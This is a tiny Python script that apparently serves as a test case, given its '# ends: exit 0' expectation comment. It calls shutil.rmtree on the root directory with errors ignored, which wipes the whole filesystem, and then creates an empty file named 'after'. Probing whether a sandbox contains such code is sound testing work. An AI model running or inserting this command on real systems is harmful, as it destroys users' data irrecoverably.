# ends: exit 0
import os, shutil
shutil.rmtree('/', ignore_errors=True)
open('after', 'w').close()
